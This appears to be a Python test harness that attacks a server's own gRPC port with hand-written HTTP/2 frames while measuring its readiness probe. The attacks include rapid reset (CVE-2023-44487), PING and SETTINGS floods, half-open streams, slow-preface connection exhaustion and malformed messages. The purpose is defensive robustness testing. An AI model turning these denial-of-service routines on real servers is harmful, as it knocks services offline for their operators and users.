#!/usr/bin/env python3
"""Hostile clients against a node's gRPC port, while its HTTP readiness probe is timed.

    grpc_hostile_client.py GRPC_HOST:PORT HTTP_BASE [--scale S]

Each attack runs in turn on raw sockets (HTTP/2 frames written by hand, so that nothing in a
client library smooths them over), while a thread asks HTTP_BASE/health/ready every 50 ms; after
each attack grpcio asks Check("") on a fresh connection. Prints one JSON object:
{"attacks": {NAME: {...what the server did...}}, "probe": {"count", "max_ms", "p99_ms", "failures"},
 "check_after": {NAME: {"status", "seconds"}}}. --scale multiplies the frame and connection counts (default 1).

Attacks: garbage instead of the HTTP/2 preface; a frame header claiming 16 MiB; rapid reset
(HEADERS then RST_STREAM, 2000 times: CVE-2023-44487); a PING flood and a SETTINGS flood of 10 000
frames never read; half-open streams (1000 asked per connection on 4 connections, HEADERS without
END_STREAM, never read); 200 connections that send half a preface and wait (over the cap of 128:
how many the server closed); malformed gRPC messages through grpcio (bytes that are no protobuf,
1 MiB and 5000 bytes over the 4 KiB limit, a 1000-byte service name under it, a compressed flag without an encoding). The counts are each well past
the guard they meet and small enough not to starve the tests that run beside this one in a debug
build (session 20: 20 000 resets, 100 000-frame floods and 8 connections of streams did, on a slow
day); `--scale` multiplies them.
"""
import json
import os
import socket
import struct
import sys
import threading
import time
import urllib.error
import urllib.request

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    """HPACK literal header field without indexing, indexed name (RFC 7541 6.2.2), no Huffman."""
    value = value.encode()
    prefix = bytes([name_index]) if name_index < 15 else bytes([0x0F, name_index - 15])
    return prefix + bytes([len(value)]) + value


def check_headers(authority):
    # :method POST (static 3), :scheme http (6), :path (4), :authority (1), content-type (31), te: trailers.
    return (bytes([0x83, 0x86]) + literal(4, "/grpc.health.v1.Health/Check") + literal(1, authority)
            + literal(31, "application/grpc") + b"\x00\x02te\x08trailers")


def connect(address, timeout=5):
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def read_frames(sock, seconds):
    """Reads frames for up to `seconds` or until the server closes: (frame kinds seen, GOAWAY code, closed)."""
    sock.settimeout(0.2)
    buffer, kinds, goaway, closed = b"", {}, None, False
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            closed = True
            break
        if not chunk:
            closed = True
            break
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, payload = buffer[3], buffer[9:9 + length]
            kinds[kind] = kinds.get(kind, 0) + 1
            if kind == GOAWAY and len(payload) >= 8:
                goaway = int.from_bytes(payload[4:8], "big")
            buffer = buffer[9 + length:]
    return {"frames": {str(k): v for k, v in sorted(kinds.items())}, "goaway": goaway, "closed": closed}


def send_all(sock, data):
    """Writes what the server takes; a server that closes or stops reading ends it (that is an answer)."""
    sock.settimeout(5)
    sent = 0
    try:
        while sent < len(data):
            sent += sock.send(data[sent:sent + 65536])
    except OSError as error:
        return {"sent_bytes": sent, "send_error": type(error).__name__}
    return {"sent_bytes": sent}


def garbage(address, scale):
    sock = connect(address)
    result = send_all(sock, os.urandom(65536 * scale))
    result.update(read_frames(sock, 5))
    sock.close()
    return result


def oversized_frame(address, scale):
    sock = connect(address)
    result = send_all(sock, PREFACE + frame(SETTINGS, 0, 0) + b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", 1))
    result.update(read_frames(sock, 5))
    sock.close()
    return result


def rapid_reset(address, scale):
    sock = connect(address)
    authority = address
    burst = bytearray(PREFACE + frame(SETTINGS, 0, 0))
    block = check_headers(authority)
    for i in range(2000 * scale):
        stream = 1 + 2 * i
        burst += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    result = send_all(sock, bytes(burst))
    result.update(read_frames(sock, 5))
    sock.close()
    return result


def flood(kind, address, scale):
    sock = connect(address)
    one = frame(PING, 0, 0, b"12345678") if kind == PING else frame(SETTINGS, 0, 0)
    result = send_all(sock, PREFACE + frame(SETTINGS, 0, 0) + one * (10000 * scale))
    result.update(read_frames(sock, 5))
    sock.close()
    return result


def half_open(address, scale, held):
    """Opens streams and never ends nor reads them; returns the sockets, still open."""
    opened = 0
    for _ in range(4 * scale):
        sock = connect(address)
        block = check_headers(address)
        burst = bytearray(PREFACE + frame(SETTINGS, 0, 0))
        for i in range(1000):
            burst += frame(HEADERS, END_HEADERS, 1 + 2 * i, block)
        send_all(sock, bytes(burst))
        opened += 1000
        held.append(sock)
    return {"streams": opened, "connections": len(held)}


def reads_to_end(sock):
    """True when the server closed the socket; the server's SETTINGS may come first, so this reads
    until the end of the stream or a quiet moment."""
    sock.settimeout(0.02)
    try:
        while sock.recv(4096):
            pass
        return True
    except socket.timeout:
        return False
    except OSError:
        return True


def slow_prefaces(address, scale, held):
    refused = 0
    for _ in range(200 * scale):
        try:
            sock = connect(address)
            sock.send(PREFACE[:10])
            held.append(sock)
        except OSError:
            refused += 1
    # The server accepts at its own pace (slowly on a loaded machine): look again until those over the
    # cap are closed or 30 s have passed, never counting a socket twice.
    expected = max(0, len(held) - 128)
    open_sockets = list(held)
    closed = 0
    deadline = time.monotonic() + 30
    while True:
        time.sleep(0.5)
        still_open = []
        for sock in open_sockets:
            if reads_to_end(sock):
                closed += 1
            else:
                still_open.append(sock)
        open_sockets = still_open
        if closed >= expected or time.monotonic() > deadline:
            break
    return {"connections": len(held), "refused": refused, "closed_by_server": closed}


def malformed_messages(address, scale):
    channel = grpc.insecure_channel(address)
    call = channel.unary_unary("/grpc.health.v1.Health/Check")
    result = {}
    for name, payload in [
        ("not_protobuf", b"\xff\xff\xff\xff"), ("over_limit", b"\x0a" + b"\x80" * 4 + b"x" * (1 << 20)),
        # field 1 (service), length-delimited: 5000 (varint 0x88 0x27) and 1000 (0xe8 0x07) bytes.
        ("just_over_limit", b"\x0a\x88\x27" + b"x" * 5000), ("long_name", b"\x0a\xe8\x07" + b"x" * 1000),
    ]:
        try:
            call(payload, timeout=5)
            result[name] = "OK"
        except grpc.RpcError as error:
            result[name] = error.code().name
    channel.close()
    # A message whose compressed flag is set without a grpc-encoding: written by hand.
    sock = connect(address)
    message = b"\x01" + struct.pack(">I", 2) + b"\x0a\x00"
    send_all(sock, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, check_headers(address))
             + frame(DATA, END_STREAM, 1, message))
    answer = read_frames(sock, 2)
    result["compressed_flag"] = {"answered": answer["frames"].get(str(HEADERS), 0) > 0 or answer["frames"].get(str(RST_STREAM), 0) > 0}
    sock.close()
    return result


class Prober:
    """GET HTTP_BASE/health/ready every 50 ms on a fresh connection (as a kubelet does)."""

    def __init__(self, base):
        self.url = base + "/health/ready"
        self.latencies, self.failures = [], []
        self.stopping = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stopping:
            start = time.monotonic()
            try:
                with urllib.request.urlopen(self.url, timeout=5) as response:
                    response.read()
            except urllib.error.HTTPError as error:
                error.read()
            except Exception as error:  # a probe that fails is what this measures
                self.failures.append(type(error).__name__)
            self.latencies.append((time.monotonic() - start) * 1000)
            time.sleep(0.05)

    def stop(self):
        self.stopping = True
        self.thread.join()
        ordered = sorted(self.latencies)
        p99 = ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] if ordered else None
        return {"count": len(ordered), "max_ms": round(max(ordered), 1) if ordered else None,
                "p99_ms": round(p99, 1) if p99 is not None else None, "failures": self.failures}


def check(address):
    """Check("") on a fresh connection: its status and how long it took. The deadline is long because
    a debug build works through a burst of opened streams at ~0.7 ms each (a release build ~15 us)."""
    channel = grpc.insecure_channel(address)
    started = time.monotonic()
    try:
        response = health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(service=""), timeout=20)
        status = health_pb2.HealthCheckResponse.ServingStatus.Name(response.status)
    except grpc.RpcError as error:
        status = error.code().name
    finally:
        channel.close()
    return {"status": status, "seconds": round(time.monotonic() - started, 3)}


def main():
    address, base = sys.argv[1], sys.argv[2]
    scale = int(sys.argv[sys.argv.index("--scale") + 1]) if "--scale" in sys.argv else 1
    prober = Prober(base)
    attacks, after, held = {}, {}, []
    plan = [
        ("garbage", lambda: garbage(address, scale)),
        ("oversized_frame", lambda: oversized_frame(address, scale)),
        ("rapid_reset", lambda: rapid_reset(address, scale)),
        ("ping_flood", lambda: flood(PING, address, scale)),
        ("settings_flood", lambda: flood(SETTINGS, address, scale)),
        ("half_open_streams", lambda: half_open(address, scale, held)),
        ("slow_prefaces", lambda: slow_prefaces(address, scale, held)),
        ("malformed_messages", lambda: malformed_messages(address, scale)),
    ]
    for name, attack in plan:
        started = time.monotonic()
        try:
            attacks[name] = attack()
        except Exception as error:
            attacks[name] = {"client_error": f"{type(error).__name__}: {error}"}
        attacks[name]["seconds"] = round(time.monotonic() - started, 2)
        after[name] = check(address)
    for sock in held:
        sock.close()
    print(json.dumps({"attacks": attacks, "probe": prober.stop(), "check_after": after}))


if __name__ == "__main__":
    main()
